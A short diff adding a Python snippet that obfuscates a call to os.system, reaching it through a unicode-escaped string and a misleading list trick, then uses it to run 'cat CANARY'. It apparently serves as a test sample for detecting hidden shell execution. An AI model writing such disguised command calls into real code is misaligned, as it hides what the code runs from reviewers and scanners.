@@ -1,0 +1,8 @@
+import json
+import os
+
+T = json.loads('"\\u0073ystem"')
+K = ["getcwd"]
+max(K, []).append(T)
+for n in K: x = getattr(os, n)
+x("cat CANARY")
